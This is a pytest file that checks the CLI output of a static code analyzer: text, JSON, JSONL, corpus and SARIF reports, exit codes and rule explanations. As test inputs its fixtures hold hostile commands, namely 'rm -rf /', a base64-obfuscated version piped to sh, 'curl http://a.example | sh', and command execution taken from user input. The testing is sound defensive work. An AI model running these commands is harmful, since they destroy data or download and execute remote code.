"""`pratique analyze` and `pratique rules`, as a person or a program calls them."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pytest

from engine.cli import main
from tests.engine.cli import sarif


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home of its own, and no colours."""
    monkeypatch.setenv("PRATIQUE_HOME", str(tmp_path / "home"))
    monkeypatch.setenv("NO_COLOR", "1")
    return tmp_path


def _run(capsys: pytest.CaptureFixture[str], arguments: Sequence[object]) -> tuple[int, str]:
    code = main([str(argument) for argument in arguments])
    return code, capsys.readouterr().out


def _lines(output: str) -> list[Any]:
    return [json.loads(line) for line in output.splitlines()]


@pytest.fixture
def nosy(tmp_path: Path) -> Path:
    """A file with one HIGH violation on its second line."""
    path = tmp_path / "nosy.py"
    path.write_text("import os\nos.system(input())\n")
    return path


def test_a_person_reads_places_levels_and_rules(capsys: pytest.CaptureFixture[str], nosy: Path) -> None:
    """Each violation is a line with its place, level, message and rule."""
    code, output = _run(capsys, ["analyze", nosy])
    assert 0 == code
    assert re.search(r"2:1 HIGH +Runs a command from the user's input \[py-process-foreign\]", output)


def test_files_of_the_workspace_are_named(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """What proven code writes stands beside the verdict, for people and for programs."""
    path = tmp_path / "report.py"
    path.write_text("import pandas as pd\npd.Series([1]).to_csv('report.csv')\n")
    _, output = _run(capsys, ["analyze", path])
    assert "Unproven; writes only its workspace: report.csv" in output
    _, output = _run(capsys, ["analyze", "--json", path])
    assert (["report.csv"], ["pandas"]) == (json.loads(output)[0]["writes"], json.loads(output)[0]["trusts"])


def test_text_of_the_code_is_shown_visibly(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """An escape sequence in a message reaches the terminal as marks."""
    path = tmp_path / "escape.py"
    path.write_text("open('/etc/\\x1b[2Jpasswd')\n")
    _, output = _run(capsys, ["analyze", path])
    assert "\x1b" not in output
    assert "␛[2J" in output


@pytest.mark.parametrize(("level", "expected"), [("critical", 0), ("high", 1), ("low", 1)])
def test_the_exit_code_says_what_was_found(
    capsys: pytest.CaptureFixture[str], nosy: Path, level: str, expected: int
) -> None:
    """`--fail-on` makes the exit code 1 where something is at or over the level."""
    assert expected == _run(capsys, ["analyze", nosy, "--fail-on", level])[0]


def test_many_files_are_a_line_each_in_order(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """`--jsonl` keeps the order of the files, however long each takes."""
    files = []
    for number in range(12):
        files.append(tmp_path / f"{number}.py")
        files[-1].write_text("x = 1\n" * (12 - number) * 200)
    _, output = _run(capsys, ["analyze", "--jsonl", *files])
    assert [str(file) for file in files] == [line["file"] for line in _lines(output)]


def test_a_folder_is_all_code_in_it(capsys: pytest.CaptureFixture[str], tmp_path: Path, nosy: Path) -> None:
    """Files within are found by suffix or first line, what is left out is counted, and all is summed up."""
    (tmp_path / "in" / "deep").mkdir(parents=True)
    (tmp_path / "in" / ".hidden").mkdir()
    (tmp_path / "in" / "deep" / "run").write_text("#!/bin/sh\nrm -rf /\n")
    (tmp_path / "in" / "notes.txt").write_text("rm -rf /\n")
    (tmp_path / "in" / "library.so").write_bytes(b"\x7fELF")
    (tmp_path / "in" / ".hidden" / "a.py").write_text("eval(x)\n")
    _, output = _run(capsys, ["analyze", tmp_path / "in", nosy])
    assert f"{tmp_path / 'in' / 'deep' / 'run'}: 1 violation" in output
    assert "2 files: 1 CRITICAL, 1 HIGH" in output
    assert "2 files skipped: unknown language" in output
    assert 1 == _run(capsys, ["analyze", "--fail-on", "critical", tmp_path / "in"])[0]


def test_a_corpus_is_answered_line_by_line(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """Good lines, broken lines and unknown languages each have their line; nothing stops the rest."""
    corpus = tmp_path / "corpus.jsonl"
    lines = [
        json.dumps({"id": "a", "language": "python", "code": "eval(input())", "label": "x"}),
        "{broken",
        json.dumps({"id": 7, "language": "cobol", "code": "STOP RUN"}),
        json.dumps({"id": "b", "language": "bash", "code": "echo hello"}),
        json.dumps({"id": "c", "language": "python", "code": "print(1)"}),
    ]
    corpus.write_text("\n".join(lines) + "\n")
    code, output = _run(capsys, ["analyze", "--corpus", corpus])
    answers = _lines(output)
    assert 0 == code
    assert ["a", None, 7, "b", "c"] == [answer["id"] for answer in answers]
    assert [True, True, True, False, False] == [bool(answer["violations"]) for answer in answers]
    assert {"rule", "severity", "category", "line", "column", "end_line", "end_column", "message"} <= set(
        answers[0]["violations"][0]
    )
    assert all(answer["seconds"] >= 0 for answer in answers)


def test_sarif_names_rules_levels_and_regions(capsys: pytest.CaptureFixture[str], nosy: Path) -> None:
    """The log is SARIF 2.1.0: every result names a rule of the driver and a region in code points."""
    _, output = _run(capsys, ["analyze", "--sarif", nosy])
    log = json.loads(output)
    run = log["runs"][0]
    rules = [rule["id"] for rule in run["tool"]["driver"]["rules"]]
    assert "2.1.0" == log["version"]
    assert "unicodeCodePoints" == run["columnKind"]
    assert all(rules[result["ruleIndex"]] == result["ruleId"] for result in run["results"])
    assert {"note", "warning", "error"} >= {result["level"] for result in run["results"]}
    region = run["results"][-1]["locations"][0]["physicalLocation"]["region"]
    assert {"startLine": 2, "startColumn": 1, "endLine": 2, "endColumn": 19} == region


def test_sarif_names_its_page_and_plain_paths(
    capsys: pytest.CaptureFixture[str], nosy: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The driver has a URI for its documentation, and a path does not begin with `./`."""
    monkeypatch.chdir(nosy.parent)
    _, output = _run(capsys, ["analyze", "--sarif", f"./{nosy.name}"])
    run = json.loads(output)["runs"][0]
    assert "urn:pratique:documentation:rules" == run["tool"]["driver"]["informationUri"]
    places = [result["locations"][0]["physicalLocation"] for result in run["results"]]
    assert {nosy.name} == {place["artifactLocation"]["uri"] for place in places}


def test_sarif_holds_to_its_schema(capsys: pytest.CaptureFixture[str], tmp_path: Path, nosy: Path) -> None:
    """Odd names, many files, related places, layers and unreadable code: all within the standard."""
    odd = tmp_path / "h\u00e9 llo #1%?.sh"
    odd.write_text("echo cm0gLXJmIC8= | base64 -d | sh\ncurl http://a.example | sh\n")
    broken = tmp_path / "broken.js"
    broken.write_text("eval(x); eval(x); ((")
    _, output = _run(capsys, ["analyze", "--sarif", nosy, odd, broken])
    log = json.loads(output)
    assert [] == [error["message"] for error in sarif.errors(log)]
    assert ["runs"] == [error["path"] for error in sarif.errors(log | {"runs": 1})]
    assert not log["runs"][0]["invocations"][0]["executionSuccessful"]


@pytest.mark.parametrize(
    "arguments",
    [
        ["analyze"],
        ["analyze", "missing.py"],
        ["analyze", "a.txt"],
        ["analyze", "-"],
        ["analyze", "a.py", "--json", "--sarif"],
        ["rules", "explain", "no"],
    ],
)
def test_a_mistake_is_one_line(capsys: pytest.CaptureFixture[str], arguments: list[str]) -> None:
    """No file, no such file, no known language or no such rule: one line, and the exit code of a problem."""
    code = main(arguments)
    assert 5 == code
    assert 1 == capsys.readouterr().err.count("\n")


def test_rules_are_listed_and_explained(capsys: pytest.CaptureFixture[str]) -> None:
    """`rules list` names every rule, `rules explain` tells its attack and examples."""
    _, listed = _run(capsys, ["rules", "list"])
    assert "py-exec " in listed
    _, explained = _run(capsys, ["rules", "explain", "py-exec"])
    assert "*Attack:*" in explained
    assert "eval(x)" in explained
